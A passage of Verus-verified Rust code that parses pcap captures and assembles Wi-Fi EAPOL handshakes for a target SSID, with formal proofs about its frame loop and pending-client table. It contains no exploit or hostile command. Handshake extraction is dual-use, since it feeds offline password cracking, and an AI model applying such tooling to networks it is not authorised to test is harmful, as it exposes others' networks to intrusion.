        invariant
            24 <= p <= data@.len(),
            data@.len() >= 24,
            data@[0] == 0xd4 && data@[1] == 0xc3 && data@[2] == 0xb2 && data@[3] == 0xa1,
            spec_cap_frames(data@, 24) == match spec_cap_frames(data@, p as int) {
                Some(rest) => Some(acc.deep_view() + rest),
                None => None::<Seq<Seq<u8>>>,
            },
        decreases data@.len() - p,
    {
        if p == data.len() {
            proof {
                assert(acc.deep_view() + Seq::<Seq<u8>>::empty() =~= acc.deep_view());
            }
            return Some(acc);
        }
        if data.len() - p < 16 {
            return None;
        }
        let incl = read_le32(data, p + 8) as usize;
        if data.len() - p - 16 < incl {
            return None;
        }
        let frame = crate::byteops::sub_bytes(data, p + 16, p + 16 + incl);
        let ghost acc_pre = acc.deep_view();
        acc.push(frame);
        proof {
            assert forall|k: int| 0 <= k < acc.deep_view().len() implies acc.deep_view()[k] == (
            acc_pre + seq![data@.subrange(p + 16, p + 16 + incl)])[k] by {
                crate::generator::lemma_deep_view_at(acc, k);
                if k < acc_pre.len() {
                    assert(acc_pre[k] == acc@[k]@);
                }
            }
            assert(acc.deep_view() =~= acc_pre + seq![data@.subrange(p + 16, p + 16 + incl)]);
            if let Some(rest) = spec_cap_frames(data@, p + 16 + incl) {
                assert(acc_pre + (seq![data@.subrange(p + 16, p + 16 + incl)] + rest)
                    =~= acc.deep_view() + rest);
            }
        }
        p = p + 16 + incl;
    }
}

/// Parses a pcap capture and assembles the first complete handshake in it.
pub fn parse_cap_file(data: &[u8], target_ssid: &[u8]) -> (r: Result<Handshake, AssembleError>)
    ensures
        match r {
            Result::Ok(h) => {
                &&& 1 <= target_ssid@.len() <= 32
                &&& spec_parse_cap(data@) matches Some(fr) && spec_assemble(
                    initial_assembler(target_ssid@),
                    fr,
                ) == Some(h@)
                &&& h.valid()
            },
            Result::Err(e) => if e == AssembleError::InvalidInput {
                spec_parse_cap(data@) is None || !(1 <= target_ssid@.len() <= 32)
            } else {
                &&& 1 <= target_ssid@.len() <= 32
                &&& spec_parse_cap(data@) matches Some(fr) && spec_assemble(
                    initial_assembler(target_ssid@),
                    fr,
                ) is None
            },
        },
{
    let frames = match cap_frames(data) {
        Some(v) => v,
        None => {
            return Result::Err(AssembleError::InvalidInput);
        },
    };
    assemble_from_frames(target_ssid, &frames)
}

/// What a lookup says of the table: a hit names an entry of that client, a
/// miss means no entry has it.
proof fn lemma_find_pending_properties(p: Seq<PendingView>, client: Seq<u8>)
    ensures
        match find_pending(p, client) {
            Some(i) => 0 <= i < p.len() && p[i].client == client,
            None => forall|k: int| 0 <= k < p.len() ==> (#[trigger] p[k]).client != client,
        },
{
    lemma_find_pending_from_properties(p, 0, client);
}

proof fn lemma_find_pending_from_properties(p: Seq<PendingView>, j: int, client: Seq<u8>)
    requires
        0 <= j <= p.len(),
    ensures
        match find_pending_from(p, j, client) {
            Some(i) => j <= i < p.len() && p[i].client == client,
            None => forall|k: int| j <= k < p.len() ==> (#[trigger] p[k]).client != client,
        },
    decreases p.len() - j,
{
    if j < p.len() && p[j].client != client {
        lemma_find_pending_from_properties(p, j + 1, client);
    }
}

/// Recording an M1 preserves the state invariants.
proof fn lemma_m1_insert_wf(s: AssemblerView, m: EapolView)
    requires
        s.wf(),
        m.client_mac.len() == 6,
        m.nonce.len() == 32,
    ensures
        (AssemblerView {
            target_ssid: s.target_ssid,
            bssid: s.bssid,
            pending: m1_insert(s.pending, m),
        }).wf(),
{
    lemma_find_pending_properties(s.pending, m.client_mac);
    let q = m1_insert(s.pending, m);
    match find_pending(s.pending, m.client_mac) {
        Some(i) => {
            assert(forall|k: int|
                0 <= k < q.len() ==> (#[trigger] q[k]).client == s.pending[k].client);
        },
        None => {
            assert(forall|k: int| 0 <= k < s.pending.len() ==> q[k] == s.pending[k]);
        },
    }
}

/// Removing an entry preserves the state invariants.
proof fn lemma_remove_keeps_wf(s: AssemblerView, i: int)
    requires
        s.wf(),
        0 <= i < s.pending.len(),
    ensures
        (AssemblerView {
            target_ssid: s.target_ssid,
            bssid: s.bssid,
            pending: s.pending.remove(i),
        }).wf(),
{
    s.pending.remove_ensures(i);
}

} // verus!
